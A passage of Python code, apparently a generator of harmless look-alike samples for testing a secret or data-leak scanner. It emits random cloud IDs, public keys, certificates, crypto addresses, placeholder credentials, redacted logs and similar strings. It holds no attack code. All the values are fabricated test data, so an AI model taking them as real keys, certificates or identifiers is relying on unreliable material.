        return T('<!doctype html>\n<html><head>\n<script src="https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js" integrity="%s" crossorigin="anonymous"></script>\n'
                 '<link rel="stylesheet" href="/static/%s" integrity="%s">\n</head><body></body></html>\n' % (pick(WORDS), rint(1, 5), rint(0, 9), rint(0, 9), pick(WORDS), sri(), asset_name("css"), sri()), "text/html")
    return T(jdump({"assets": {asset_name("js"): {"integrity": sri("sha384")}, asset_name("css"): {"integrity": sri("sha256")}}}), "application/json")


def aws_id(prefix):
    return "%s-%s" % (prefix, rhex(17))


@N("cloud-resource-ids", "bbbbbbu")
def _n_cloud(where):
    acct = rs(12, DG)
    if where == "url":
        return T("https://management.azure.com/subscriptions/%s/resourceGroups/rg-%s/providers/Microsoft.Web/sites/%s-%s?api-version=2022-09-01" % (ruuid(), pick(SVC), pick(ORGS), pick(SVC)))
    c = rint(0, 3)
    if c == 0:
        return T(jdump({"Reservations": [{"Instances": [{"InstanceId": aws_id("i"), "ImageId": aws_id("ami"), "SubnetId": aws_id("subnet"), "VpcId": aws_id("vpc"),
                                                          "SecurityGroups": [{"GroupId": aws_id("sg")}], "NetworkInterfaces": [{"NetworkInterfaceId": aws_id("eni")}],
                                                          "IamInstanceProfile": {"Arn": "arn:aws:iam::%s:instance-profile/%s" % (acct, pick(SVC))}}]}]}, indent=2), "application/json")
    if c == 1:
        return T("/subscriptions/%s/resourceGroups/rg-%s-prod/providers/Microsoft.Compute/virtualMachines/vm-%s-%02d\n" % (ruuid(), pick(SVC), pick(SVC), rint(1, 20)), "text/plain")
    if c == 2:
        return T(jdump({"name": "projects/%s-%d/locations/us-central1/functions/%s" % (pick(ORGS), rint(100, 999999), pick(SVC)),
                        "serviceAccountEmail": "%s@%s-%d.iam.gserviceaccount.com" % (pick(SVC), pick(ORGS), rint(100, 999)), "buildId": ruuid()}), "application/json")
    return T(jdump({"id": "ocid1.instance.oc1.eu-frankfurt-1.%s" % rs(60, LN), "compartmentId": "ocid1.compartment.oc1..%s" % rs(60, LN)}), "application/json")


@N("document-ids", "bbbbuu")
def _n_docids(where):
    gdoc = "1" + rs(43, AN + "-_")
    if where == "url":
        return T(pick(["https://docs.google.com/document/d/%s/edit?usp=sharing" % gdoc, "https://www.notion.so/%s-%s" % (pick(WORDS).capitalize(), rhex(32)),
                       "https://www.figma.com/file/%s/%s" % (rs(22, AN), pick(WORDS).capitalize()), "https://airtable.com/app%s/tbl%s/viw%s" % (rs(14, AN), rs(14, AN), rs(14, AN))]))
    return T(jdump({"links": [{"type": "gdoc", "id": gdoc}, {"type": "notion", "id": rhex(32)}, {"type": "airtable", "record": "rec" + rs(14, AN)},
                              {"type": "firebase", "key": "-N" + rs(18, AN + "-_")}]}), "application/json")


@N("pagination-cursors", "bbbbuu")
def _n_cursor(where):
    cur = pick([lambda: b64(jdump({"id": rint(1000, 999999), "ts": repoch()})), lambda: b64u(jdump({"offset": rint(20, 5000), "sort": "created_at"})),
                lambda: b64("cursor:v2:" + b64(rb(12))), lambda: b64("user:U0" + rs(8, UN))])()
    if where == "url":
        return T("https://%s/api/v1/events?limit=100&cursor=%s" % (host(), pq(cur)))
    return T(jdump({"data": [{"id": ruuid()} for _ in range(rint(1, 3))], "has_more": True, "next_cursor": cur, "response_metadata": {"next_cursor": cur}}), "application/json")


@N("public-jwks", "bbbbb")
def _n_jwks(where):
    keys = [{"kty": "RSA", "use": "sig", "kid": rhex(16), "alg": "RS256", "n": b64u(ibytes(rbig(2048))), "e": "AQAB"},
            {"kty": "EC", "use": "sig", "kid": ruuid(), "crv": "P-256", "x": b64u(rb(32)), "y": b64u(rb(32))}]
    if chance(0.4):
        keys.append({"kty": "OKP", "crv": "Ed25519", "kid": "ed-%d" % rint(1, 9), "x": b64u(rb(32))})
    return T(jdump({"keys": keys}, indent=pick([None, 2])), pick(["application/jwk-set+json", "application/json"]))


@N("ssh-public-keys", "bbbbb")
def _n_sshpub(where):
    c = rint(0, 2)
    if c == 0:
        return T("\n".join(pick([ssh_pub_ed25519, ssh_pub_rsa, ssh_pub_ecdsa])("%s@%s" % (ruser(), pick(["laptop", "ci", "desk"]))) for _ in range(rint(1, 3))) + "\n", "text/plain")
    if c == 1:
        return T(jdump({"title": "%s deploy key" % pick(SVC), "key": ssh_pub_ed25519(email()), "read_only": True}), "application/json")
    return T("%s,%s %s\n" % (host(), rip(), " ".join(ssh_pub_ecdsa("").split()[:2])), "text/plain")


def pgp_pub_block():
    pkt = b"\x98\x33\x04" + struct.pack(">I", repoch()) + b"\x16\x09\x2b\x06\x01\x04\x01\xda\x47\x0f\x01\x01\x07\x40" + rb(32)
    uid = ("%s <%s>" % (pname(), email())).encode()
    pkt += b"\xb4" + bytes([len(uid)]) + uid + b"\x88\x93\x04\x13\x16\x0a" + rb(140)
    return "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n%s\n=%s\n-----END PGP PUBLIC KEY BLOCK-----\n" % (wrap(b64(pkt), 64), b64(rb(3)))


@N("pgp-public-keys", "bbbb")
def _n_pgp(where):
    if chance(0.5):
        return T(pgp_pub_block(), "application/pgp-keys")
    return T(jdump({"armored_public_key": pgp_pub_block(), "fingerprint": rhex(40).upper()}), "application/json")


def x509_der():
    def name(cn):
        return tlv(0x30, tlv(0x31, tlv(0x30, bytes.fromhex("0603550403") + tlv(0x0C, cn.encode()))))
    alg = tlv(0x30, bytes.fromhex("06092a864886f70d01010b0500"))
    validity = tlv(0x30, tlv(0x17, b"240101000000Z") + tlv(0x17, b"260101000000Z"))
    spki = tlv(0x30, tlv(0x30, OID_RSA + b"\x05\x00") + tlv(3, b"\x00" + tlv(0x30, der_int(rbig(2048)) + der_int(65537))))
    tbs = tlv(0x30, tlv(0xA0, der_int(2)) + der_int(R.getrandbits(120)) + alg + name("R%d %s CA" % (rint(1, 9), pick(ORGS).capitalize())) + validity + name(host()) + spki)
    return tlv(0x30, tbs + alg + tlv(3, b"\x00" + rb(256)))


def pem_cert():
    return "-----BEGIN CERTIFICATE-----\n%s\n-----END CERTIFICATE-----\n" % wrap(b64(x509_der()), 64)


@N("x509-certificates", "bbbbb")
def _n_cert(where):
    c = rint(0, 2)
    if c == 0:
        return T(pem_cert() + (pem_cert() if chance(0.5) else ""), "application/x-pem-file")
    if c == 1:
        return T(jdump({"domain": host(), "certificate": pem_cert(), "chain": [pem_cert()]}), "application/json")
    return T("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: trusted-ca\ndata:\n  ca.crt: |\n    %s\n" % pem_cert().strip().replace("\n", "\n    "), "application/yaml")


def cid_v1():
    return "b" + b32(b"\x01\x70\x12\x20" + rb(32), pad=False).lower()


def cid_v0():
    return b58(b"\x12\x20" + rb(32))


@N("crypto-public-addresses", "bbbbbu")
def _n_addr(where):
    if where == "url":
        return T(pick(["https://mempool.space/address/%s" % btc_bech32_addr(), "https://etherscan.io/address/%s" % eth_addr(), "https://solscan.io/account/%s" % sol_pub()]))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"donations": {"btc": btc_bech32_addr(), "btc_legacy": btc_legacy_addr(), "eth": eth_addr(), "sol": sol_pub()}}), "application/json")
    if c == 1:
        return T(jdump({"watch_only": True, "xpub": xkey(private=False), "gap_limit": 20}), "application/json")
    return T("recipients:\n  - %s\n  - %s\nnostr: %s\n" % (age_public(), age_public(), npub()), "application/yaml")


@N("crypto-tx-hashes", "bbbbu")
def _n_tx(where):
    if where == "url":
        return T("https://etherscan.io/tx/0x%s" % rhex(64))
    if chance(0.5):
        return T(jdump({"jsonrpc": "2.0", "id": rint(1, 99), "method": "eth_getTransactionReceipt", "params": ["0x" + rhex(64)]}), "application/json")
    return T(jdump({"transactionHash": "0x" + rhex(64), "blockHash": "0x" + rhex(64), "blockNumber": hex(rint(10 ** 7, 2 * 10 ** 7)), "from": eth_addr(), "to": eth_addr(),
                    "logs": [{"topics": ["0x" + rhex(64), "0x" + "0" * 24 + rhex(40)]}]}), "application/json")


PLACEHOLDERS = ["your-api-key-here", "<TOKEN>", "<YOUR_API_KEY>", "xxxxxxxxxxxxxxxxxxxxxxxx", "REPLACE_ME", "changeme-in-prod", "${API_KEY}", "{{ api_key }}",
                "********", "<insert-secret>", "YOUR_SECRET_HERE", "dummy", "TODO", "00000000-0000-0000-0000-000000000000"]


@N("placeholder-credentials", "bbbbbbbhhhu")
def _n_placeholder(where):
    if where == "header":
        return T(pick(["Authorization: Bearer <TOKEN>", "X-Api-Key: your-api-key-here", "Authorization: Bearer ${ACCESS_TOKEN}", "Authorization: Basic <base64(user:password)>", "X-Auth-Token: REPLACE_ME"]))
    if where == "url":
        return T("https://%s/v1/data?api_key=YOUR_API_KEY&format=json" % host())
    c = rint(0, 3)
    if c == 0:
        return T("# copy to .env and fill in\nAPI_KEY=%s\nAPI_SECRET=%s\nDATABASE_URL=postgres://<user>:<password>@localhost:5432/<db>\nSMTP_PASSWORD=\n" % (pick(PLACEHOLDERS), pick(PLACEHOLDERS)), "text/plain")
    if c == 1:
        return T("## Configuration\n\nSet `API_TOKEN` to the value from your dashboard, e.g.\n\n```bash\nexport API_TOKEN=\"%s\"\n```\n" % pick(PLACEHOLDERS), "text/markdown")
    if c == 2:
        return T(jdump({"apiKey": pick(PLACEHOLDERS), "secret": pick(PLACEHOLDERS), "password": pick(PLACEHOLDERS)}, indent=2), "application/json")
    return T("client = Client(\n    api_key=\"%s\",  # TODO: load from env\n)\n" % pick(PLACEHOLDERS), "text/x-python")


@N("env-var-references", "bbbbbh")
def _n_envref(where):
    var = pick(SVC).upper().replace("-", "_") + "_" + pick(["TOKEN", "API_KEY", "PASSWORD", "SECRET"])
    if where == "header":
        return T("Authorization: Bearer $%s" % var)
    c = rint(0, 6)
    if c == 0:
        return T("jobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh\n        env:\n          %s: ${{ secrets.%s }}\n" % (var, var), "application/yaml")
    if c == 1:
        return T("services:\n  %s:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?must be set}\n      %s: ${%s}\n" % (pick(SVC), var, var), "application/yaml")
    if c == 2:
        return T("env:\n  - name: %s\n    valueFrom:\n      secretKeyRef:\n        name: %s-credentials\n        key: %s\n" % (var, pick(SVC), pick(["password", "token", "api-key"])), "application/yaml")
    if c == 3:
        return T('import os\n%s = os.environ["%s"]\npassword = os.getenv("DB_PASSWORD")\n' % (var.lower(), var), "text/x-python")
    if c == 4:
        return T('resource "aws_db_instance" "%s" {\n  username = "app"\n  password = var.db_password\n}\n' % pick(SVC).replace("-", "_"), "text/plain")
    if c == 5:
        return T("password: {{ .Values.%s.password | quote }}\ntoken: {{ required \"token\" .Values.%s.token }}\n" % (pick(SVC).replace("-", ""), pick(SVC).replace("-", "")), "application/yaml")
    return T('{{ with secret "kv/data/%s" }}\n%s={{ .Data.data.%s }}\n{{ end }}\n' % (pick(SVC), var, var.lower()), "text/plain")


@N("redacted-logs", "bbbbbbh")
def _n_redacted(where):
    if where == "header":
        return T("Authorization: [REDACTED]")
    lines = ["%s INFO request method=POST path=/v1/charges auth=Bearer [REDACTED] status=200" % rts(),
             "%s DEBUG db connect user=app password=******** host=%s" % (rts(), host()),
             "%s INFO Parameters: {\"email\"=>\"%s\", \"password\"=>\"[FILTERED]\", \"token\"=>\"[FILTERED]\"}" % (rts(), email()),
             "%s WARN secret masked: ***" % rts(),
             "%s INFO api_key=<redacted> region=eu-west-1" % rts()]
    R.shuffle(lines)
    return T("\n".join(lines[:rint(3, 5)]) + "\n", "text/plain")


@N("csrf-tokens", "bbbbhh")
def _n_csrf(where):
    if where == "header":
        return T(pick(["X-CSRF-Token: %s" % b64(rb(64)), "X-CSRFToken: %s" % rs(64, AN), "X-XSRF-TOKEN: %s" % pq(b64(jdump({"iv": b64(rb(16)), "value": b64(rb(48)), "mac": rhex(64), "tag": ""})))]))
    c = rint(0, 2)
    if c == 0:
        return T(qs([("csrfmiddlewaretoken", rs(64, AN)), ("title", pick(WORDS)), ("body", "hello")]), "application/x-www-form-urlencoded")
    if c == 1:
        return T(qs([("authenticity_token", b64(rb(64))), ("user[name]", pname()), ("commit", "Save")]), "application/x-www-form-urlencoded")
    return T(qs([("_token", rs(40, AN)), ("comment", "looks good to me")]), "application/x-www-form-urlencoded")


@N("encrypted-config-values", "bbbbbb")
def _n_enc(where):
    c = rint(0, 3)
    if c == 0:
        return T("db:\n    password: ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]\nsops:\n    age:\n        - recipient: %s\n    lastmodified: \"%s\"\n    mac: ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]\n    version: 3.8.1\n"
                 % (b64(rb(18)), b64(rb(32)), b64(rb(16)), age_public(), rts(), b64(rb(64)), b64(rb(32)), b64(rb(16))), "application/yaml")
    if c == 1:
        hx = rb(rint(120, 300)).hex()
        return T("$ANSIBLE_VAULT;1.1;AES256\n" + wrap(hx, 80) + "\n", "text/plain")
    if c == 2:
        return T("apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: db\nspec:\n  encryptedData:\n    password: Ag%s\n" % b64(rb(rint(300, 500))), "application/yaml")
    return T("jdbc.password=ENC(%s)\nmail.password=ENC(%s)\n" % (b64(rb(32)), b64(rb(48))), "text/plain")


@N("css-hex-constants", "bbbbb")
def _n_css(where):
    if chance(0.6):
        rules = [":root {"] + ["  --%s-%d: #%s;" % (pick(["primary", "accent", "gray", "brand"]), rint(1, 9) * 100, rhex(6)) for _ in range(rint(5, 12))] + ["}"]
        rules += [".%s { color: #%s; background: linear-gradient(90deg, #%s 0%%, #%s 100%%); }" % (pick(WORDS), rhex(6), rhex(6), rhex(6)) for _ in range(3)]
        return T("\n".join(rules) + "\n", "text/css")
    consts = ["#define %s_MAGIC 0x%s" % (pick(WORDS).upper(), rhex(8).upper()) for _ in range(4)]
    table = ", ".join("0x%sUL" % rhex(8) for _ in range(16))
    return T("\n".join(consts) + "\nstatic const uint32_t crc_table[16] = { %s };\n" % table, "text/x-c")


def minjs():
    ids = [rs(rint(1, 2), LO) for _ in range(8)]
    parts = ['(self.webpackChunk_%s=self.webpackChunk_%s||[]).push([[%d],{%d:function(%s,%s,%s){"use strict";' % (pick(WORDS), pick(WORDS), rint(100, 999), rint(1000, 99999), ids[0], ids[1], ids[2])]
    for _ in range(rint(4, 10)):
        parts.append('var %s=%s(%d),%s=%s.n(%s);function %s(%s){return %s.createElement("%s",{className:"%s-%s"},%s.children)}' %
                     (ids[3], ids[2], rint(1000, 99999), ids[4], ids[2], ids[3], ids[5], ids[6], ids[3], pick(["div", "span", "button"]), pick(WORDS), rs(6, LN + "_"), ids[6]))
    parts.append('}}]);\n//# sourceMappingURL=%s.map' % asset_name("js"))
    return "".join(parts)


@N("minified-js", "bbbbb")
def _n_minjs(where):
    return T(minjs(), "application/javascript")


VLQ = AN + "+/"


@N("source-maps", "bbbb")
def _n_srcmap(where):
    segs = ";".join(",".join(rs(pick([4, 4, 5, 6, 8]), VLQ) for _ in range(rint(3, 12))) for _ in range(rint(20, 60)))
    return T(jdump({"version": 3, "file": asset_name("js"), "sources": ["webpack://%s/./src/%s.tsx" % (pick(SVC), pick(WORDS)) for _ in range(3)],
                    "names": [pick(WORDS) for _ in range(8)], "mappings": segs}), "application/json")


@N("lockfiles", "bbbbbb")
def _n_lock(where):
    c = rint(0, 4)
    if c == 0:
        pk = {"node_modules/%s" % pick(WORDS): {"version": "%d.%d.%d" % (rint(0, 9), rint(0, 20), rint(0, 20)), "resolved": "https://registry.npmjs.org/%s/-/%s-1.0.%d.tgz" % (w, w, rint(0, 9)),
                                                 "integrity": sri("sha512")} for w in [pick(WORDS) for _ in range(4)]}
        return T(jdump({"name": pick(SVC), "lockfileVersion": 3, "requires": True, "packages": pk}, indent=2), "application/json")
    if c == 1:
        return T("\n".join('%s@^%d.%d.0:\n  version "%d.%d.%d"\n  resolved "https://registry.yarnpkg.com/%s/-/%s-%d.%d.%d.tgz#%s"\n  integrity %s\n' %
                           (w, 1, 2, 1, 2, 3, w, w, 1, 2, 3, rhex(40), sri("sha512")) for w in [pick(WORDS) for _ in range(3)]), "text/plain")
    if c == 2:
        return T("\n".join("github.com/%s/%s v1.%d.%d h1:%s=\ngithub.com/%s/%s v1.%d.%d/go.mod h1:%s=" % (o, w, a, b, b64(rb(32))[:43], o, w, a, b, b64(rb(32))[:43])
                           for o, w, a, b in [(pick(ORGS), pick(WORDS), rint(0, 9), rint(0, 9)) for _ in range(3)]) + "\n", "text/plain")
    if c == 3:
        return T("\n".join('[[package]]\nname = "%s"\nversion = "0.%d.%d"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "%s"\n' % (pick(WORDS), rint(1, 9), rint(0, 30), rhex(64)) for _ in range(3)), "text/plain")
    return T("\n".join('[[package]]\nname = "%s"\nversion = "%d.%d"\nfiles = [\n    {file = "%s-%d.%d-py3-none-any.whl", hash = "sha256:%s"},\n]\n' % (w, 1, 4, w, 1, 4, rhex(64)) for w in [pick(WORDS) for _ in range(3)]), "text/plain")


def tiny_gif():
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + rb(6) + b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def tiny_jpeg():
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00" + rb(64) + b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00?\x00" + rb(rint(200, 1500)) + b"\xff\xd9"


@N("base64-images", "bbbbbb")
def _n_img(where):
    c = rint(0, 3)
    if c == 0:
        return BIN(tiny_png([("Software", "%s %d.%d" % (pick(["GIMP", "Inkscape", "matplotlib"]), rint(1, 3), rint(0, 10)))]), "image/png")
    if c == 1:
        return T(jdump({"model": pick(LLM_MODELS_OAI), "messages": [{"role": "user", "content": [{"type": "text", "text": "What is in this image?"},
                                                                                                  {"type": "image_url", "image_url": {"url": "data:image/png;base64," + b64(tiny_png())}}]}]}), "application/json")
    if c == 2:
        return T('<img alt="logo" src="data:image/gif;base64,%s"><img src="data:image/jpeg;base64,%s">' % (b64(tiny_gif()), b64(tiny_jpeg())), "text/html")
    return BIN(tiny_jpeg(), "image/jpeg")


def tiny_pdf():
    txt = pick(["Invoice %d" % rint(1000, 9999), "Quarterly report", "Meeting notes"])
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"]
    stream = "BT /F1 24 Tf 72 720 Td (%s) Tj ET" % txt
    out = "%PDF-1.4\n"
    for i, o in enumerate(objs):
        out += "%d 0 obj\n%s\nendobj\n" % (i + 1, o)
    out += "4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /ID [<%s><%s>] >>\n%%%%EOF\n" % (len(stream), stream, rhex(32), rhex(32))
    return out.encode("latin-1") + rb(rint(50, 400))


@N("base64-documents", "bbbb")
def _n_doc(where):
    if chance(0.5):
        return T(jdump({"filename": "%s.pdf" % pick(WORDS), "mime_type": "application/pdf", "content": b64(tiny_pdf())}), "application/json")
    docx = mkzip([("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
                  ("word/document.xml", "<w:document><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>" % pick(["Agenda", "Draft", "Minutes"]))])
    return T(jdump({"name": "%s.docx" % pick(WORDS), "data": b64(docx)}), "application/json")


@N("compressed-benign-bodies", "bbbbbb")
def _n_gz(where):
    payload = jdump({"events": [{"type": pick(["page_view", "click", "scroll"]), "ts": repoch(), "path": "/" + pick(WORDS), "session": ruuid()} for _ in range(rint(3, 12))]})
    c = rint(0, 3)
    if c == 0:
        return BIN(gz(payload), "application/json", "gzip")
    if c == 1:
        return BIN(zl(payload), "application/json", "deflate")
    if c == 2:
        return BIN(gz("\n".join("%s %s GET /%s 200" % (rts(), rip(), pick(WORDS)) for _ in range(20))), "application/gzip")
    return BIN(mkzip([("report/summary.csv", "day,visits\n" + "\n".join("%s,%d" % (rdate(), rint(10, 9999)) for _ in range(7))), ("report/README.txt", "weekly export\n")]), "application/zip")


MULTI = ["Die Stadtverwaltung hat heute angekündigt, dass die Bibliothek ab nächster Woche länger geöffnet bleibt. Bürgerinnen und Bürger können dann bis 22 Uhr lesen.",
         "Le conseil municipal a voté le budget pour la rénovation du parc. Les travaux commenceront au printemps et dureront environ six mois.",
         "El equipo presentó los resultados del trimestre: las ventas crecieron un 12 % y la satisfacción de los clientes se mantuvo estable.",
         "今日は朝から雨が降っていますが、午後には晴れる予報です。週末は気温が上がりそうです。",
         "新版本修复了若干界面问题，并改进了搜索速度。请在设置中开启自动更新。",
         "Команда разработчиков выпустила обновление, которое улучшает производительность и исправляет ошибки в отчётах.",
         "A reunião foi adiada para quinta-feira às 15h. Por favor, confirmem a presença até amanhã.",
         "Il museo ospiterà una mostra dedicata alla fotografia del Novecento fino alla fine di settembre.",
         "De trein naar Utrecht vertrekt vandaag vanaf spoor 7 in plaats van spoor 5.",
         "Spotkanie zespołu odbędzie się w sali konferencyjnej na drugim piętrze.",
         "회의 자료는 공유 드라이브에 올려 두었습니다. 검토 후 의견 부탁드립니다.",
         "Toplantı notları paylaşıldı; lütfen yarına kadar yorumlarınızı ekleyin.",
         "Η παράσταση ξεκινά στις οκτώ και διαρκεί περίπου δύο ώρες.",
         "यह रिपोर्ट पिछले महीने के बिक्री आंकड़ों का सारांश प्रस्तुत करती है।",
         "تم تحديث سياسة الخصوصية لتوضيح كيفية استخدام البيانات."]


@N("multilingual-prose", "bbbbbbb")
def _n_prose(where):
    ps = [pick(MULTI) for _ in range(rint(1, 4))]
    if chance(0.5):
        return T("\n\n".join(ps), "text/plain; charset=utf-8")
    return T(jdump({"channel": "C" + rs(10, UN), "text": "\n".join(ps)}), "application/json")


@N("credential-format-docs", "bbbbbb")
def _n_docs(where):
    docs = ["## Token formats\n\nPersonal access tokens are prefixed with a short type identifier followed by an underscore and 36 base62 characters. The last six characters are a CRC32 checksum, which lets scanners discard random strings. Never paste a real token into an issue.",
            "Cloud access key IDs are 20 uppercase characters; the matching secret access key is 40 characters of base64-like text. Rotate keys every 90 days and prefer short-lived role credentials.",
            "Webhook signing secrets are generated per endpoint. Verify the signature header by computing an HMAC-SHA256 of the raw body and comparing it in constant time.",
            "### Storing secrets\n\n1. Keep them in a secrets manager.\n2. Inject them as environment variables at runtime.\n3. Never commit `.env` files.\n4. Use pre-commit hooks to scan for high-entropy strings.",
            "A JSON Web Token consists of three base64url segments separated by dots: header, payload and signature. The payload is not encrypted, so do not put confidential data in it.",
            "Payment card numbers are between 13 and 19 digits and end in a Luhn check digit. PCI DSS requires that the full number is never stored in logs.",
            "IBANs start with a two-letter country code and two check digits computed with the MOD-97 algorithm, followed by the domestic account number."]
    d = pick(docs)
    if chance(0.4):
        return T(jdump({"title": "Security guidelines", "markdown": d}), "application/json")
    return T(d + "\n", "text/markdown")


@N("analytics-payloads", "bbbbuu")
def _n_analytics(where):
    cid = "%d.%d" % (rint(10 ** 8, 10 ** 9), repoch())
    if where == "url":
        return T("https://www.google-analytics.com/g/collect?v=2&tid=G-%s&gtm=45je%s&_p=%d&cid=%s&ul=en-us&sr=1920x1080&en=page_view&dl=%s" % (rs(10, UN), rs(6, LN + DG), rint(10 ** 8, 10 ** 9), cid, pq("https://%s/pricing" % domain())))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"client_id": cid, "events": [{"name": "purchase", "params": {"currency": "EUR", "value": rint(5, 500), "transaction_id": "T-%d" % rint(10000, 99999)}}]}), "application/json")
    if c == 1:
        return T(jdump({"batch": [{"type": "track", "event": "Signed Up", "anonymousId": ruuid(), "messageId": "ajs-next-%s" % rhex(32), "timestamp": rts(), "properties": {"plan": "pro"}}]}), "application/json")
    return T(jdump({"idsite": rint(1, 40), "_id": rhex(16), "action_name": pick(WORDS), "res": "1440x900", "pv_id": rs(6, AN)}), "application/json")


@N("k8s-manifests", "bbbbb")
def _n_k8s(where):
    app = pick(SVC)
    return T("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: %s\n  labels:\n    app: %s\n    pod-template-hash: %s\nspec:\n  replicas: %d\n  selector:\n    matchLabels:\n      app: %s\n  template:\n"
             "    metadata:\n      annotations:\n        checksum/config: %s\n    spec:\n      containers:\n        - name: %s\n          image: ghcr.io/%s/%s@sha256:%s\n          ports:\n            - containerPort: 8080\n"
             "          envFrom:\n            - secretRef:\n                name: %s-env\n          resources:\n            limits:\n              memory: 512Mi\n"
             % (app, app, rs(10, LN), rint(1, 6), app, rhex(64), app, pick(ORGS), app, rhex(64), app), "application/yaml")


@N("graphql-queries", "bbbbbu")
def _n_gql(where):
    if where == "url":
        return T("https://%s/graphql?operationName=Feed&variables=%s&extensions=%s" % (host(), pq(jdump({"first": 20, "after": b64("cursor:%d" % rint(1, 999))})),
                                                                                         pq(jdump({"persistedQuery": {"version": 1, "sha256Hash": rhex(64)}}))))
    q = pick(["query GetRepo($owner: String!, $name: String!) { repository(owner: $owner, name: $name) { id stargazerCount defaultBranchRef { target { oid } } } }",
              "mutation AddComment($input: AddCommentInput!) { addComment(input: $input) { commentEdge { node { id body } } } }",
              "query Viewer { viewer { login avatarUrl(size: 64) } }"])
    return T(jdump({"operationName": q.split()[1].split("(")[0], "query": q, "variables": {"owner": pick(ORGS), "name": pick(SVC), "input": {"subjectId": "MDU6SXNzdWU" + b64("%d" % rint(10 ** 8, 10 ** 9)).rstrip("="), "body": "LGTM"}}}), "application/json")


@N("benign-llm-requests", "bbbbbbbb")
def _n_llm(where):
    asks = ["How should I store API keys securely in a Node.js app?", "Explain the difference between OAuth access tokens and refresh tokens.",
            "Write a Python function that validates an IBAN using the mod-97 algorithm.", "Summarise this meeting transcript in three bullet points: we agreed to ship on Friday.",
            "Translate 'password reset link expired' into German and French.", "What does a 401 versus 403 status code mean?",
            "Refactor this function to use async/await: function f(cb){ setTimeout(cb, 10) }", "Generate a regex that matches UUID v4 strings."]
    k = rint(0, 2)
    if k == 0:
        return T(jdump({"model": pick(LLM_MODELS_OAI), "messages": [{"role": "system", "content": "You are concise."}, {"role": "user", "content": pick(asks)}], "temperature": 0.3}), "application/json")
    if k == 1:
        return T(jdump({"model": pick(LLM_MODELS_ANT), "max_tokens": 1024, "tools": [{"name": "read_file", "description": "Read a file", "input_schema": {"type": "object", "properties": {"path": {"type": "string"}}}}],
                        "messages": [{"role": "user", "content": pick(asks)}]}), "application/json")
    return T(jdump({"contents": [{"role": "user", "parts": [{"text": pick(asks)}]}]}), "application/json")


def snowflake_id():
    return str(rint(10 ** 18, 19 * 10 ** 17))


@N("numeric-identifiers", "bbbbu")
def _n_nums(where):
    if where == "url":
        return T("https://x.com/%s/status/%s" % (pick(WORDS), snowflake_id()))
    return T(jdump({"message_id": snowflake_id(), "guild_id": snowflake_id(), "created_ms": repoch() * 1000 + rint(0, 999), "order_no": "%d-%07d" % (rint(100, 999), rint(0, 9999999)),
                    "phone": "+49 30 %d %d" % (rint(1000, 9999), rint(1000, 9999))}), "application/json")


def ean13(prefix):
    d = prefix + rs(12 - len(prefix), DG)
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(d))
    return d + str((10 - s % 10) % 10)


@N("product-barcodes", "bbbb")
def _n_ean(where):
    rows = ["sku,ean,isbn,title"]
    for _ in range(rint(3, 6)):
        rows.append("%s,%s,%s,%s" % (rs(8, UN), ean13(pick(["40", "50", "76", "87"])), ean13("978"), pick(WORDS).capitalize()))
    return T("\n".join(rows) + "\n", "text/csv")


def xxd(data):
    lines = []
    for off in range(0, len(data), 16):
        chunk = data[off:off + 16]
        hx = " ".join(chunk[i:i + 2].hex() for i in range(0, len(chunk), 2))
        asc = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        lines.append("%08x: %-39s  %s" % (off, hx, asc))
    return "\n".join(lines) + "\n"


@N("hex-dumps", "bbbb")
def _n_xxd(where):
    data = pick([lambda: tiny_png(), lambda: ("# %s\nversion = 3\nname = \"%s\"\n" % (pick(WORDS), pick(SVC))).encode(), lambda: tiny_gif()])()
    return T(xxd(data), "text/plain")


@N("password-policy-config", "bbbbb")
def _n_pwpolicy(where):
    c = rint(0, 3)
    if c == 0:
        return T(jdump({"password_policy": {"min_length": rint(8, 16), "require_uppercase": chance(0.7), "require_symbols": chance(0.6), "max_age_days": pick([0, 60, 90, 180]), "history": rint(0, 10)}}), "application/json")
    if c == 1:
        return T('<form method="post" action="/login"><label>E-mail <input type="email" name="email"></label><label>Password <input type="password" name="password" autocomplete="current-password" required></label><button>Sign in</button></form>', "text/html")
    if c == 2:
        return T(jdump({"type": "object", "properties": {"username": {"type": "string"}, "password": {"type": "string", "format": "password", "writeOnly": True, "minLength": rint(8, 16)}}, "required": ["username", "password"]}), "application/schema+json")
    return T(qs([("email", email()), ("password", ""), ("password_confirmation", ""), ("remember_me", "0")]), "application/x-www-form-urlencoded")


@N("oauth-authorization-params", "bbbuuuu")
def _n_oauth(where):
    if where == "url":
        return T("https://%s/oauth2/authorize?%s" % (pick(["accounts.%s" % domain(), "login.%s" % domain(), "auth.%s" % domain()]),
